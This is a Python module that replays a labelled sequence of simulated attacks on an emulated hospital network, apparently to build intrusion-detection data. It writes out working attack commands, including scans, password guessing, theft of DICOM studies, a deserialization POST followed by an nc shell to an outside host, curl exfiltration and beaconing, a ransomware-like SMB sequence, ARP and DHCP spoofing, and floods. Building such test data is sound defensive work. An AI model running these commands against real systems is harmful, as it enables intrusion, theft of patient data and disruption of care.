"""The attacks on the other hospital: one method each, one row each."""

import pathlib
import time

import pydicom

import topology as t
from programs import ARCH_PORT, EMR_PORT, HERE, HUB_ADT, HUB_BED, HUB_ORU, HUB_WEB, PYTHON, READ1_PORT, READ1_WEB, READ2_PORT, SPEAK

PAUSE_SECONDS, LEAD_IN_SECONDS = 6, 40


class Attacker:
    def __init__(self, net, objects, patients):
        self.net, self.objects, self.patients, self.scratch = net, objects, patients, net.work / "loot"
        self.scratch.mkdir()

    def do(self, host, *command, timeout=60, **kwargs):
        return self.net.do(host, *command, timeout=timeout, **kwargs)

    def raw(self, host, *arguments, timeout=60):
        return self.do(host, *PYTHON, HERE / "intruder.py", *arguments, timeout=timeout)

    def a(self, name):
        return t.address(name)

    def find(self, host, aet, *keys):
        return self.do(host, "findscu", "-to", 5, "-S", "-aet", aet, "-aec", "MAINARCH", self.a("arch"), ARCH_PORT, *(w for k in keys for w in ("-k", k)))

    def uids(self):
        out = self.do("arch", "findscu", "-to", 5, "-S", "-aet", "READ2", "-aec", "MAINARCH", "127.0.0.1", ARCH_PORT, "-k", "QueryRetrieveLevel=STUDY", "-k", "StudyInstanceUID", "-v")
        return [line.split("[")[1].split("]")[0].strip("\0 ") for line in (out.stdout + out.stderr).splitlines() if "(0020,000d)" in line and "[2." in line]

    def image(self, change=None, modality="CT"):
        _, files = self.objects.study(modality, self.patients[5], "CT64")
        ds = pydicom.dcmread(files[0])
        if change:
            change(ds)
            ds.save_as(files[0])
        return files

    def store(self, host, aet, files, to="arch", port=ARCH_PORT, aec="MAINARCH"):
        self.do(host, "storescu", "-to", 6, "-R", "-aet", aet, "-aec", aec, self.a(to) if to in t.HOSTS else to, port, *files)

    # Arrival and reconnaissance

    def new_device(self):
        self.net.plug_in(t.HOSTS["rogue"])
        self.do("rogue", "busybox", "udhcpc", "-i", "eth0", "-q", "-n", "-f", "-s", self.net.work / "udhcpc.sh", "-x", "hostname:kali")
        self.do("rogue", "curl", "-sk", "-o", "/dev/null", "--max-time", 5, f"https://{self.a('portal')}/")

    def arp_scan(self):
        self.do("rogue", "arp-scan", "-I", "eth0", "172.20.24.0/24")

    def ping_sweep(self):
        self.do("pc2", "nmap", "-sn", "-n", "-PE", "--max-rate", 80, "172.20.1.0/25", "172.20.10.0/26")

    def masscan(self):
        self.do("rogue", "masscan", "172.20.1.0/26", "172.20.10.0/27", "-p104,11112,445,2575", "--rate", 150, "--wait", 2, "-i", "eth0", "--router-mac", t.ROUTER_MAC, "--source-ip", self.a("rogue"))

    def vertical(self):
        self.do("pc2", "nmap", "-sS", "-n", "-Pn", "--max-rate", 300, "-p", "1-1200", self.a("hub"))

    def stealth(self):
        for flag in ("-sF", "-sX", "-sN"):
            self.do("rogue", "nmap", flag, "-n", "-Pn", "--max-rate", 200, "--max-retries", 0, "-p", "1-120", self.a("files"))

    def udp_scan(self):
        self.do("rogue", "nmap", "-sU", "-n", "-Pn", "--max-rate", 60, "--max-retries", 0, "-p", "53,67,69,111,123,135,137,161,162,177,389,427,500,514,520,623,1434,1900,2049,3702,5060,5353,11211,47808", self.a("printer"))

    def slow_scan(self):
        self.do("pc2", "nmap", "-sT", "-n", "-Pn", "--scan-delay", "900ms", "--max-retries", 0, "-p", "20-60", self.a("arch"))

    def versions(self):
        self.do("rogue", "nmap", "-sV", "-n", "-Pn", "--version-intensity", 4, "-p", f"22,{ARCH_PORT},{HUB_ADT},{HUB_WEB},{READ1_PORT},{READ1_WEB}", self.a("arch"), self.a("hub"), self.a("read1"), timeout=120)

    # DICOM

    def called_titles(self):
        self.raw("rogue", "titles", self.a("arch"), ARCH_PORT, 25)

    def default_title(self):
        self.do("rogue", "echoscu", "-to", 4, "-aet", "PYNETDICOM", "-aec", "ANY-SCP", self.a("read2"), READ2_PORT)
        self.do("rogue", "echoscu", "-to", 4, "-aet", "ECHOSCU", "-aec", "ANY-SCP", self.a("read1"), READ1_PORT)

    def dicom_probe(self):
        self.raw("rogue", "probe", self.a("arch"), ARCH_PORT, self.a("read1"), READ1_PORT, self.a("read2"), READ2_PORT, self.a("sched"), 1104)

    def rogue_store(self):
        def pdf(ds):
            ds.SOPClassUID = ds.file_meta.MediaStorageSOPClassUID = "1.2.840.10008.5.1.4.1.1.104.1"
        self.store("pc2", "IMPORT7", self.image(pdf)[:1], "read1", READ1_PORT, "READ1")

    def harvest(self):
        self.find("read2", "READ2", "QueryRetrieveLevel=STUDY", "PatientName=*", "PatientID", "PatientBirthDate", "StudyInstanceUID")
        self.find("read2", "READ2", "QueryRetrieveLevel=STUDY", "PatientID=*", "StudyInstanceUID")
        for uid in self.uids()[:14]:
            self.find("read2", "READ2", "QueryRetrieveLevel=SERIES", f"StudyInstanceUID={uid}", "SeriesInstanceUID")
            self.find("read2", "READ2", "QueryRetrieveLevel=IMAGE", f"StudyInstanceUID={uid}", "SeriesInstanceUID=*", "SOPInstanceUID")

    def stolen_title(self):
        for letter in "ABCDEFGHIJKLMNOP":
            self.find("rogue", "READ1", "QueryRetrieveLevel=STUDY", f"PatientName={letter}*", "PatientID", "StudyInstanceUID")

    def bulk_get(self):
        for uid in self.uids()[:10]:
            self.do("read1", "getscu", "-to", 5, "-S", "-aet", "READ1", "-aec", "MAINARCH", "-od", self.scratch, self.a("arch"), ARCH_PORT, "-k", "QueryRetrieveLevel=STUDY", "-k", f"StudyInstanceUID={uid}")

    def move_away(self):
        process = self.net.serve("float9", "rogue", "storescp", "--ignore", "--fork", "-aet", "FLOAT9", READ2_PORT)
        time.sleep(1)
        for uid in self.uids()[:2]:
            self.do("read2", "movescu", "-to", 6, "-S", "-aet", "READ2", "-aec", "MAINARCH", "-aem", "FLOAT9", self.a("arch"), ARCH_PORT, "-k", "QueryRetrieveLevel=STUDY", "-k", f"StudyInstanceUID={uid}")
        process.terminate()

    def store_flood(self):
        self.raw("xr1", "store-flood", self.a("arch"), ARCH_PORT, "XR1", "MAINARCH", 400)

    def exhaustion(self):
        self.raw("rogue", "hold", self.a("read1"), READ1_PORT, "READ1", 40, 15)

    def pdu_bombs(self):
        self.raw("rogue", "pdu-bombs", self.a("arch"), ARCH_PORT, "MAINARCH")

    def traversal(self):
        self.raw("rogue", "traversal", self.a("read1"), READ1_PORT)

    def pixel_bomb(self):
        def bomb(ds):
            ds.Rows = ds.Columns = 65000
        self.store("rogue", "CT64", self.image(bomb)[:1], "read1", READ1_PORT, "READ1")

    def program_inside(self):
        def elf(ds):
            ds.SOPClassUID = ds.file_meta.MediaStorageSOPClassUID = "1.2.840.10008.5.1.4.1.1.104.1"
            del ds.PixelData
            ds.EncapsulatedDocument = b"\x7fELF\x02\x01\x01\0" + bytes(200_000)
            ds.MIMETypeOfEncapsulatedDocument = "application/pdf"
        self.store("xr2", "XR2", self.image(elf)[:1], "read1", READ1_PORT, "READ1")

    def preamble_program(self):
        file = pathlib.Path(self.image()[0])
        file.write_bytes(b"MZ" + bytes(58) + b"\x80\0\0\0" + bytes(64) + file.read_bytes()[128:])
        self.do("pc2", "smbclient", "-N", "-s", self.net.work / "smb.conf", f"//{self.a('files')}/docs", "-c", f"put {file} scan.dcm")

    def tampering(self):
        files = self.image()
        self.store("ct64", "CT64", files[:1])
        ds = pydicom.dcmread(files[0])
        ds.PixelData = bytes(len(ds.PixelData))
        ds.save_as(files[0])
        self.store("rogue", "MAINARCH", files[:1], "read1", READ1_PORT, "READ1")

    def plain_again(self):
        self.store("xr2", "XR2", self.image(modality="CR"))

    def dicom_outside(self):
        self.store("read2", "READ2", self.image()[:4], t.CLOUD, 104, "ANY")

    def rest(self):
        for path in ("/system", "/patients", "/studies?expand", "/instances"):
            self.do("rogue", "curl", "-s", "-o", "/dev/null", "--max-time", 8, "-u", "orthanc:orthanc", f"http://{self.a('read1')}:{READ1_WEB}{path}")
        for n in range(25):
            self.do("rogue", "curl", "-s", "-o", "/dev/null", "--max-time", 8, "-u", f"reader:guess{n}", f"http://{self.a('read1')}:{READ1_WEB}/system")

    # HL7

    def hl7_spoof(self):
        self.raw("pc2", "hl7-spoof", self.a("hub"), HUB_ADT)

    def hl7_type(self):
        self.raw("bed2", "hl7-type", self.a("hub"), HUB_BED)

    def hl7_replay(self):
        self.raw("pc3", "hl7-replay", self.a("hub"), HUB_ORU)

    def hl7_flood(self):
        self.raw("gas1", "hl7-flood", self.a("hub"), HUB_ORU, 500)

    def hl7_giant(self):
        self.raw("rogue", "hl7-giant", self.a("hub"), HUB_ADT)

    def hl7_slow(self):
        self.raw("pc2", "hl7-slow", self.a("hub"), HUB_ORU, 40)

    def hl7_queries(self):
        self.raw("nurse", "hl7-queries", self.a("hub"), HUB_ADT, 90)

    def hl7_outside(self):
        self.raw("hub", "hl7-outside", t.CLOUD, 2575)

    def hub_takeover(self):
        body = '<java.util.PriorityQueue serialization="custom"><org.apache.commons.collections4.functors.InvokerTransformer/></java.util.PriorityQueue>'
        self.do("rogue", "curl", "-s", "-o", "/dev/null", "-X", "POST", "-H", "Content-Type: application/xml", "-H", "X-Requested-With: OpenAPI", "-d", body, f"http://{self.a('hub')}:{HUB_WEB}/api/users")
        self.do("hub", "busybox", "nc", "-w", 2, t.CLOUD, 4444, input="id\nuname -a\n")

    def failing_emr(self):
        (self.net.work / "failing").touch()
        time.sleep(35)
        (self.net.work / "failing").unlink()

    # Everything around

    def hydra_ssh(self):
        words = self.words(30)
        self.do("rogue", "hydra", "-I", "-t", 4, "-l", "root", "-P", words, f"ssh://{self.a('files')}", timeout=90)

    def hydra_ftp(self):
        self.do("rogue", "hydra", "-I", "-t", 4, "-l", "service", "-P", self.words(30), f"ftp://{self.a('files')}", timeout=90)

    def hydra_web(self):
        self.do("rogue", "hydra", "-I", "-t", 4, "-l", "nurse", "-P", self.words(40), self.a("portal"), "http-get", "/staff/", timeout=90)

    def smb_guess(self):
        for n in range(14):
            self.do("pc1", "smbclient", "-U", f"administrator%guess{n}", "-s", self.net.work / "smb.conf", f"//{self.a('files')}/private{n}", "-c", "ls")

    def words(self, n):
        file = self.scratch / f"words{n}"
        file.write_text("".join(f"guess{i}\n" for i in range(n)))
        return file

    def ransomware(self):
        noise = self.scratch / "noise"
        noise.write_bytes(open("/dev/urandom", "rb").read(9000))
        commands = "".join(f"get report-{n:03}.txt /dev/null; put {noise} report-{n:03}.txt.locked; del report-{n:03}.txt; " for n in range(70))
        self.do("pc1", "smbclient", "-N", "-s", self.net.work / "smb.conf", f"//{self.a('files')}/docs", "-c", commands + f"put {noise} HOW_TO_DECRYPT.txt", timeout=90)

    def spread(self):
        for host in ("arch", "sched", "hub", "emr", "portal", "ct64", "xr1", "read1", "read2", "nurse", "bed1", "lis"):
            self.do("pc1", "smbclient", "-N", "-s", self.net.work / "smb.conf", "-t", 2, f"//{self.a(host)}/C$", "-c", "ls", timeout=5)

    def beacon(self):
        for _ in range(22):
            self.do("gas2", "curl", "-sk", "-o", "/dev/null", "--max-time", 4, f"https://{t.CLOUD}/b")
            time.sleep(4)

    def dns_tunnel(self):
        self.raw("pc3", "dns-tunnel", self.a("infra"), "tunnel.example", 120)

    def exfiltration(self):
        self.do("files", "curl", "-sk", "-o", "/dev/null", "--max-time", 60, "-T", self.blob(60), "--limit-rate", "3M", f"https://{t.CLOUD}/upload")

    def icmp_tunnel(self):
        self.raw("pc3", "icmp-tunnel", t.CLOUD, 120)

    def blob(self, megabytes):
        file = self.scratch / "blob"
        with open(file, "wb") as f, open("/dev/urandom", "rb") as noise:
            for _ in range(megabytes):
                f.write(noise.read(1 << 20))
        return file

    def arp_spoof(self):
        self.net.plug_in(t.HOSTS["rogue2"])
        self.raw("rogue2", "arp-spoof", self.a("read1"), "172.20.10.1", 20)

    def rogue_dhcp(self):
        self.net.serve("rogue-dhcp", "rogue", "dnsmasq", "-k", "-C", "/dev/null", "--port=0", "--pid-file=", "--user=root", "--log-facility=-", "--dhcp-range=172.20.24.220,172.20.24.240,5m",
                       f"--dhcp-option=option:router,{self.a('rogue')}", f"--dhcp-option=option:dns-server,{self.a('rogue')}", "--dhcp-authoritative", f"--dhcp-leasefile={self.scratch}/leases")
        time.sleep(1)
        for pc in ("pc1", "pc2", "pc1"):
            self.do(pc, "busybox", "udhcpc", "-i", "eth0", "-q", "-n", "-f", "-s", "/bin/true", "-x", f"hostname:{pc}")

    def rogue_ra(self):
        self.raw("rogue", "rogue-ra")

    def poisoning(self):
        self.raw("rogue", "llmnr", self.a("pc3"))

    def syn_flood(self):
        self.do("rogue", "hping3", "-S", "-p", 443, "--rand-source", "-i", "u2000", "-c", 4000, self.a("portal"))

    def udp_flood(self):
        self.do("rogue", "hping3", "--udp", "-p", 9, "-d", 600, "-i", "u1000", "-c", 9000, self.a("broker"))

    def icmp_flood(self):
        self.do("rogue", "hping3", "--icmp", "-d", 900, "-i", "u1000", "-c", 9000, self.a("emr"))

    def slow_http(self):
        self.do("rogue", "slowhttptest", "-c", 120, "-H", "-i", 4, "-r", 60, "-l", 25, "-u", f"http://{self.a('portal')}/", timeout=50)

    def web_scan(self):
        self.raw("rogue", "web-scan", self.a("portal"), 80)

    def backdoor(self):
        for port in (515, 2049):
            self.do("bed1", "busybox", "nc", "-w", 2, t.CLOUD, port, input="\2lp\n" + "waveform" * 40)

    def new_outside(self):
        for _ in range(3):
            self.do("ct64", "curl", "-sk", "-o", "/dev/null", "--max-time", 6, f"https://{t.CLOUD}/telemetry")

    def lateral(self):
        for host in ("arch", "gas1", "hub"):
            self.do("nurse", "ssh", "-F", self.net.home / ".ssh" / "config", f"root@{self.a(host)}", "id; sleep 1")

    def rogue_service(self):
        (self.scratch / "tool").write_bytes(b"\x7fELF" + bytes(50_000))
        self.net.serve("httpd", "sono", "busybox", "httpd", "-f", "-p", 8000, "-h", self.scratch)
        time.sleep(1)
        for _ in range(3):
            self.do("read2", "curl", "-s", "-o", "/dev/null", f"http://{self.a('sono')}:8000/tool")

    def snmp_guess(self):
        for word in "public private cisco manager admin monitor snmp secret default community".split():
            self.do("rogue", "snmpget", "-v2c", "-c", word, "-t", 0.4, "-r", 0, self.a("printer"), "1.3.6.1.2.1.1.1.0")

    def broker_listen(self):
        self.do("rogue", "timeout", 12, "mosquitto_sub", "-h", self.a("broker"), "-t", "#", "-v", "-i", "listener")

    def swapped(self):
        """The pump's place is taken: same address, other hardware."""
        self.raw("pump2", "swap", self.a("pump2"))
        for n in range(5):
            self.do("pump2", "mosquitto_pub", "-h", self.a("broker"), "-t", "pumps/pump2/rate", "-m", f"{n}", "-i", "pump2")
            time.sleep(1)

    def silent(self):
        self.day_sources["bed3"].terminate()
        time.sleep(70)

    def dead_service(self):
        for name, process in list(self.net.services):
            if name == "mosquitto":
                process.terminate()
        time.sleep(60)


# name, method, attackers, victims, protocol
ATTACKS = (
    ("new-device", "new_device", ["rogue"], [], "dhcp"), ("arp-scan", "arp_scan", ["rogue"], [], "arp"), ("ping-sweep", "ping_sweep", ["pc2"], [], "icmp"), ("masscan", "masscan", ["rogue"], [], "tcp"),
    ("port-scan", "vertical", ["pc2"], ["hub"], "tcp"), ("stealth-scan", "stealth", ["rogue"], ["files"], "tcp"), ("udp-scan", "udp_scan", ["rogue"], ["printer"], "udp"),
    ("slow-scan", "slow_scan", ["pc2"], ["arch"], "tcp"), ("version-scan", "versions", ["rogue"], ["arch", "hub", "read1"], "tcp"),
    ("ae-guessing", "called_titles", ["rogue"], ["arch"], "dicom"), ("default-ae", "default_title", ["rogue"], ["read1", "read2"], "dicom"),
    ("dicom-probing", "dicom_probe", ["rogue"], ["arch", "read1", "read2", "sched"], "dicom"), ("rogue-store", "rogue_store", ["pc2"], ["read1"], "dicom"),
    ("find-harvest", "harvest", ["read2"], ["arch"], "dicom"), ("stolen-ae", "stolen_title", ["rogue"], ["arch"], "dicom"), ("bulk-get", "bulk_get", ["read1"], ["arch"], "dicom"),
    ("move-new-destination", "move_away", ["read2"], ["arch"], "dicom"), ("store-flood", "store_flood", ["xr1"], ["arch"], "dicom"), ("association-exhaustion", "exhaustion", ["rogue"], ["read1"], "dicom"),
    ("pdu-bombs", "pdu_bombs", ["rogue"], ["arch"], "dicom"), ("path-traversal", "traversal", ["rogue"], ["read1"], "dicom"), ("pixel-bomb", "pixel_bomb", ["rogue"], ["read1"], "dicom"),
    ("program-in-object", "program_inside", ["xr2"], ["read1"], "dicom"), ("program-in-preamble", "preamble_program", ["pc2"], ["files"], "smb"), ("image-tampering", "tampering", ["rogue"], ["read1"], "dicom"),
    ("cleartext-where-tls", "plain_again", ["xr2"], ["arch"], "dicom"), ("dicom-outside", "dicom_outside", ["read2"], [], "dicom"), ("orthanc-rest", "rest", ["rogue"], ["read1"], "http"),
    ("hl7-spoofed-sender", "hl7_spoof", ["pc2"], ["hub"], "hl7"), ("hl7-new-type", "hl7_type", ["bed2"], ["hub"], "hl7"), ("hl7-replay", "hl7_replay", ["pc3"], ["hub"], "hl7"),
    ("hl7-flood", "hl7_flood", ["gas1"], ["hub"], "hl7"), ("hl7-giant", "hl7_giant", ["rogue"], ["hub"], "hl7"), ("hl7-slow", "hl7_slow", ["pc2"], ["hub"], "hl7"),
    ("hl7-queries", "hl7_queries", ["nurse"], ["hub"], "hl7"), ("hl7-outside", "hl7_outside", ["hub"], [], "hl7"), ("hub-takeover", "hub_takeover", ["rogue"], ["hub"], "http"),
    ("failing-interface", "failing_emr", ["emr"], ["hub"], "hl7"), ("ssh-guessing", "hydra_ssh", ["rogue"], ["files"], "ssh"), ("ftp-guessing", "hydra_ftp", ["rogue"], ["files"], "ftp"),
    ("http-guessing", "hydra_web", ["rogue"], ["portal"], "http"), ("smb-guessing", "smb_guess", ["pc1"], ["files"], "smb"), ("smb-spread", "spread", ["pc1"], [], "smb"),
    ("ransomware", "ransomware", ["pc1"], ["files"], "smb"), ("beacon", "beacon", ["gas2"], [], "tls"), ("dns-tunnel", "dns_tunnel", ["pc3"], [], "dns"), ("exfiltration", "exfiltration", ["files"], [], "tls"),
    ("icmp-tunnel", "icmp_tunnel", ["pc3"], [], "icmp"), ("arp-spoofing", "arp_spoof", ["rogue2"], ["read1"], "arp"), ("rogue-dhcp", "rogue_dhcp", ["rogue"], ["pc1", "pc2"], "dhcp"),
    ("rogue-ra", "rogue_ra", ["rogue"], [], "icmpv6"), ("name-poisoning", "poisoning", ["rogue"], ["pc3"], "llmnr"), ("syn-flood", "syn_flood", ["rogue"], ["portal"], "tcp"),
    ("udp-flood", "udp_flood", ["rogue"], ["broker"], "udp"), ("icmp-flood", "icmp_flood", ["rogue"], ["emr"], "icmp"), ("slow-http", "slow_http", ["rogue"], ["portal"], "http"),
    ("web-scan", "web_scan", ["rogue"], ["portal"], "http"), ("backdoored-monitor", "backdoor", ["bed1"], [], "tcp"), ("modality-outside", "new_outside", ["ct64"], [], "tls"),
    ("lateral-ssh", "lateral", ["nurse"], ["arch", "gas1", "hub"], "ssh"), ("rogue-service", "rogue_service", ["sono"], ["read2"], "http"), ("snmp-guessing", "snmp_guess", ["rogue"], ["printer"], "snmp"),
    ("mqtt-listening", "broker_listen", ["rogue"], ["broker"], "mqtt"), ("device-swapped", "swapped", ["pump2"], [], "arp"), ("device-silent", "silent", ["bed3"], [], "hl7"),
    ("service-dead", "dead_service", ["broker"], [], "mqtt"),
)


def carry_out(net, objects, patients, scale, day=None):
    attacker, labels = Attacker(net, objects, patients), []
    attacker.day_sources = {name.removeprefix("hl7-"): process for name, process in net.services if name.startswith("hl7-")}
    time.sleep(LEAD_IN_SECONDS * scale)
    for name, method, attackers, victims, protocol in ATTACKS:
        net.say(f"attack {name}")
        start = time.time()
        try:
            getattr(attacker, method)()
        except Exception as error:
            net.say(f"attack {name} failed: {error!r}")
        addresses = [a for n in attackers for a in (t.address(n), t.HOSTS[n].ipv6) if a]
        labels.append({"name": name, "start": start, "end": time.time(), "attackers": addresses, "victims": [t.address(n) for n in victims], "ports": [], "protocol": protocol,
                       "description": name.replace("-", " ")})
        time.sleep(PAUSE_SECONDS)
    return labels
